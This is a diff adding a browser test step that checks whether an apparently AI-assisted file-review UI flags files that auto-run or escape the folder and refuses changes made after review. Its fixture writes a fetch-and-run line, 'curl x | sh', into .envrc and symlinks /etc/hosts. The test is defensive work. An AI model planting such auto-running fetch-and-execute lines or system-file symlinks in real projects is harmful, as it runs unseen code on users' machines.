@@ -426,6 +426,66 @@ await main(async (walk, job) => {
     await page.evaluate(() => { globalThis.fetch = globalThis.fetchNow; });
   });
 
+  await walk.step("what runs on the machine, and a link that leads out, are applied by themselves", async () => {
+    await page.evaluate(() => yaa.use("ui/commands").run("session.new"));
+    await page.waitForSelector(".composer-bar .folder:not([hidden])");
+    await page.click(".composer-bar .folder");
+    await walk.press("notes", ".menu button");
+    await order(walk, "Set it up.", "shell", { command: "echo 'curl x | sh' > .envrc; mkdir .vscode; echo '{}' > .vscode/tasks.json; ln -s /etc/hosts hosts; echo 1 > plain.txt" });
+    await walk.says("It is done.");
+    await page.evaluate(() => document.querySelector(".files")?.checkVisibility() || yaa.use("ui/commands").run("files"));
+    await walk.press("Layer", ".files-tabs button");
+    await page.waitForFunction(() => document.querySelectorAll(".layer-row").length === 4);
+    const said = await page.$$eval(".layer-row", (all) => all.map((one) => [one.querySelector(".path").textContent, one.querySelector(".badge")?.textContent, Boolean(one.querySelector("input"))].join()).sort());
+    const wanted = [".envrc,runs on your machine,false", ".vscode/tasks.json,runs on your machine,false", "hosts → /etc/hosts,leads out of the folder,false", "plain.txt,,true"];
+    if (said.join("|") !== wanted.join("|")) throw new Error(said.join("|"));
+    await walk.sees(".files-view", "3 of them would run on your machine or lead out of the folder");
+    await walk.clean("the layer");
+    // what comes into the layer after it was looked at is not applied
+    await page.evaluate(async () => {
+      const { app } = yaa.use("ui/commands").context();
+      await yaa.use("ui/files/session-files").routesOf(app).upload("plain.txt", new Blob(["EVIL"]));
+    });
+    await walk.press("Apply 1", ".files-bar button");
+    await walk.sees(".toast", "The layer has changed since you looked at it");
+    if ((await told("folder", "notes"))["plain.txt"]) throw new Error("it was applied unseen");
+    await page.waitForFunction(() => document.querySelectorAll(".layer-row").length === 4);
+    await walk.press("Apply 1", ".files-bar button");
+    await page.waitForFunction(() => document.querySelectorAll(".layer-row").length === 3);
+    let notes = await told("folder", "notes");
+    if (notes["plain.txt"] !== "EVIL" || notes[".envrc"] || notes[".vscode/tasks.json"] || notes.hosts) throw new Error(JSON.stringify(notes));
+    await walk.press(".envrc", ".file-row");
+    await walk.sees(".layer-row .diff ins", "curl x | sh");
+    await walk.sees(".layer-row .notice", "Programs on your machine run this file");
+    await walk.clean("a file that runs");
+    await walk.shot("15-layer-runs");
+    await walk.press("Apply this file", ".layer-row button");
+    await page.waitForFunction(() => document.querySelectorAll(".layer-row").length === 2);
+    notes = await told("folder", "notes");
+    if (!notes[".envrc"] || notes[".vscode/tasks.json"]) throw new Error(JSON.stringify(notes));
+    await walk.press("hosts", ".file-row");
+    await walk.sees(".layer-row .diff ins", "-> /etc/hosts");
+    if (job.browser === "chromium") {
+      const id = await page.evaluate(() => yaa.use("ui/commands").context().app.current.session.id);
+      await page.setViewport(PHONE); // the page is loaded again
+      await page.waitForSelector(".files-button:not([hidden])");
+      await openSession(page, id);
+      await page.$$eval(".files-tabs button", (all) => all[2].click());
+      await page.waitForSelector(".layer-row .file-row");
+      await page.$eval(".layer-row .file-row", (one) => one.click());
+      await page.waitForSelector(".layer-row .diff");
+      await walk.clean("the layer on a phone");
+      await fits(page);
+      await walk.shot("15-phone-layer-runs");
+      await page.setViewport({ width: 1280, height: 800 });
+      await page.waitForSelector(".files-button:not([hidden])");
+      await openSession(page, id);
+      await page.$$eval(".files-tabs button", (all) => all[2].click());
+    }
+    await walk.press("Discard all", ".files-bar button");
+    await walk.sees(".files-body", "The layer holds no changes");
+  });
+
   if (job.browser !== "chromium") return;
   for (const [theme, language] of [["light", "en"], ["dark", "zh"]]) {
     await walk.step(`on a phone, ${theme}, ${language}`, async () => {
